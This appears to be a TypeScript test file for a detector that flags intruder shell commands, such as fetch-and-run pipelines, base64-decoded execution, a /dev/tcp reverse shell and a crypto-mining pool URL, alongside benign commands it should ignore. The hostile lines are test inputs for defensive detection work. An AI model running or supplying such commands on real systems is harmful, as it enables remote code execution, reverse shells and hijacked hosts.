import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { normalise, readArguments, readCommand } from '../../src/findings/command-reading.ts';
import { editDistance } from '../../src/findings/edit-distance.ts';
import { indicatorsWith } from '../../src/findings/indicators.ts';
import { commandSignals, hostNamesIn, remoteAddressesIn } from '../../src/findings/judge-command.ts';
import { splitShell } from '../../src/findings/shell-words.ts';

const KNOWN = indicatorsWith();
const place = { home: '/root', workingFolder: null };
const codes = (text: string): string[] =>
  commandSignals(readCommand(text, place), KNOWN).map(({ code }) => code);
const strongest = (text: string): number =>
  Math.max(0, ...commandSignals(readCommand(text, place), KNOWN).map(({ weight }) => weight));

describe('a command that fetches and runs', () => {
  it.each([
    'curl -fsSL http://203.0.113.20/i.sh | sh',
    '(curl -fsSL http://203.0.113.20/i.sh||wget -q -O- http://203.0.113.20/i.sh)|sh >/dev/null 2>&1',
    'wget -qO- https://x.example/i.sh | sudo bash -s -- --quiet',
    'bash <(curl -s https://x.example/i.sh)',
    'sh -c "$(curl -fsSL https://x.example/i.sh)"',
    'eval "$(wget -qO- x.example/i)"',
    'bash -c "curl https://x.example/i | python3 -"',
    'cd /tmp && wget -q https://x.example/k -O k && chmod +x k && ./k',
    'curl -o /tmp/a https://x.example/a; sh /tmp/a',
    'curl https://x.example/a.gz | gunzip | bash',
    '`which curl` -s https://x.example/i; curl -s https://x.example/i | nohup bash &',
    'cd1 -s https://x.example/i.sh | bash',
  ])('is recognised: %s', (text) => {
    expect(codes(text)).toContain('fetch-pipe-shell');
  });

  it.each([
    'curl -fsS -m 300 -T /srv/backup/nightly.tar.gz https://backup.example.net/in/ >/dev/null 2>&1',
    '/usr/local/bin/backup.sh && curl -fsS https://hc.example.com/ping/1 > /dev/null',
    'curl -s https://api.example.com/v1 | jq .name',
    'curl -s http://127.0.0.1:9200/_cluster/health | grep -q green || systemctl restart search',
    'wget -q -O /srv/data/list.txt https://example.com/list.txt',
    'curl -s https://example.com/a.csv | python3 /opt/report/load.py',
    'curl -s https://example.com/a.json | awk -f /opt/x.awk',
    'apt-get update && apt-get -y upgrade',
    'find /srv/share -name "*.tmp" -mtime +30 -delete',
    'test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }',
  ])('is not seen in an ordinary job: %s', (text) => {
    expect(strongest(text)).toBeLessThan(20);
  });
});

describe('what only intruders write', () => {
  it.each([
    ['echo aGk= | base64 -d | bash', 'decoded-and-run'],
    ['bash -c "$(echo aGk= | base64 --decode)"', 'decoded-and-run'],
    ['python3 -c "import base64;exec(base64.b64decode(\'aGk=\'))"', 'decoded-and-run'],
    ['bash -i >& /dev/tcp/203.0.113.20/4444 0>&1', 'dev-tcp'],
    ['/var/lib/dpkg/info/cron.postinst', 'dpkg-script'],
    ['/opt/x -o stratum+tcp://pool.minexmr.com:4444 --donate-level 1', 'stratum-url'],
  ])('%s', (text, code) => {
    expect(codes(text)).toContain(code);
  });

  it('is no matter where somebody merely looks for it', () => {
    for (const text of [
      'grep -r stratum+tcp:// /etc /var',
      'sudo rg "stratum+tcp://" /',
      'ps aux | grep -i "xmrig\\|stratum+tcp://"',
      'vi /tmp/stratum+tcp://x',
      'echo stratum+tcp://pool:3333',
    ]) {
      expect(strongest(text), text).toBeLessThan(40);
    }
  });

  it('is no matter where base64 or /dev/tcp is used as people use it', () => {
    expect(strongest('base64 -d /srv/in.b64 > /srv/out.bin')).toBe(0);
    expect(strongest('timeout 1 bash -c "</dev/tcp/127.0.0.1/80"')).toBe(0);
  });
});

describe('paths that a command leads to', () => {
  const targets = (text: string): Record<string, string> =>
    Object.fromEntries(
      readCommand(text, { home: '/root', workingFolder: '/root' }).targets.map(({ path, use }) => [
        path,
        use,
      ]),
    );

  it('are told apart by what is done with them', () => {
    expect(targets('cd /tmp/.x && ./run -c /etc/a.conf >/var/log/a.log 2>&1')).toEqual({
      '/tmp/.x': 'named',
      '/tmp/.x/run': 'run',
      '/etc/a.conf': 'named',
      '/var/log/a.log': 'written',
    });
    expect(targets('nohup ~/.x/y & . $HOME/z; sudo -u ann python3 -u "/opt/a b.py" /srv/in')).toEqual({
      '/root/.x/y': 'run',
      '/root/z': 'run',
      '/opt/a b.py': 'run',
      '/srv/in': 'named',
    });
    expect(targets('/a/b || /c/d; LD_PRELOAD=/tmp/h.so /bin/true')).toMatchObject({
      '/a/b': 'run',
      '/c/d': 'run',
      '/tmp/h.so': 'run',
    });
    expect(targets('[ -x /opt/s ] && /opt/s')).toEqual({ '/opt/s': 'run' });
    expect(targets('echo hi >/dev/null; cat < /dev/null')).toEqual({});
  });

  it('name the script of a process, not its interpreter’s other arguments', () => {
    const read = (...words: string[]) =>
      readArguments(words, { home: null, workingFolder: '/srv/app' }).targets.filter(
        ({ use }) => use === 'run',
      );
    expect(read('node', '--enable-source-maps', 'dist/server.js', '/data')).toEqual([
      { path: '/srv/app/dist/server.js', use: 'run' },
    ]);
    expect(read('/usr/bin/java', '-cp', '/a', '-jar', '/opt/x.jar')).toContainEqual({
      path: '/opt/x.jar',
      use: 'run',
    });
    expect(read('python3', '-m', 'http.server')).toEqual([]);
  });
});

describe('addresses in a command', () => {
  it('are found in URLs, /dev/tcp and host:port, and version numbers are not', () => {
    expect(
      remoteAddressesIn(
        'curl http://203.0.113.20/x -x 198.51.100.7:8080 > /dev/tcp/192.0.2.1/80 http://u:p@[2001:db8::9]:80/',
      ),
    ).toEqual(['203.0.113.20', '198.51.100.7', '192.0.2.1', '2001:db8::9']);
    expect(
      remoteAddressesIn(
        '/opt/app-1.2.3.4/bin/run /opt/1.2.3.4/x --v=10.0.0.1-rc 127.0.0.1 0.0.0.0 999.1.1.1 1.2.3.4.5',
      ),
    ).toEqual([]);
    expect(hostNamesIn('a -o stratum+tcp://pool.example:3333 pool2:4444 http://x.example/y')).toEqual([
      'pool.example',
      'x.example',
      'pool2',
    ]);
  });
});

describe('taking text apart', () => {
  it('never fails and ends, whatever it is given', () => {
    const nasty = fc.array(
      fc.constantFrom(
        '"',
        "'",
        '`',
        '$(',
        '(',
        ')',
        '{',
        '}',
        '|',
        '&',
        ';',
        '\\',
        '\n',
        '<',
        '>',
        '#',
        ' ',
        'a',
        '/x',
        '~',
        '2',
      ),
      { maxLength: 80 },
    );
    fc.assert(
      fc.property(nasty, (pieces) => {
        const text = pieces.join('');
        splitShell(text);
        commandSignals(readCommand(text, place), KNOWN);
      }),
      { numRuns: 400 },
    );
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary' }),
        (text) => commandSignals(readCommand(text, place), KNOWN).length >= 0,
      ),
    );
  });

  it('takes no longer than its text is long', () => {
    for (const piece of ['$(', '`', '"', '(', 'a=', '\\', '|', "'", '/a ', '1.1.1.1:']) {
      const text = piece.repeat(200_000 / piece.length);
      const from = performance.now();
      commandSignals(readCommand(text, place), KNOWN);
      expect(performance.now() - from, piece).toBeLessThan(2000);
    }
  });

  it('gives a path without detours', () => {
    expect(normalise('/a/./b//../c/...')).toBe('/a/c/...');
    fc.assert(fc.property(fc.string(), (text) => normalise(normalise(text)) === normalise(text)));
  });

  it('measures how far names are apart', () => {
    expect(editDistance('systemd-timesyncdd', 'systemd-timesyncd', 2)).toBe(1);
    expect(editDistance('sshd', 'shsd', 2)).toBe(1);
    expect(editDistance('abc', 'xyz', 2)).toBe(3);
    fc.assert(
      fc.property(
        fc.string({ maxLength: 12 }),
        fc.string({ maxLength: 12 }),
        (a, b) => editDistance(a, b, 12) === editDistance(b, a, 12),
      ),
    );
  });
});
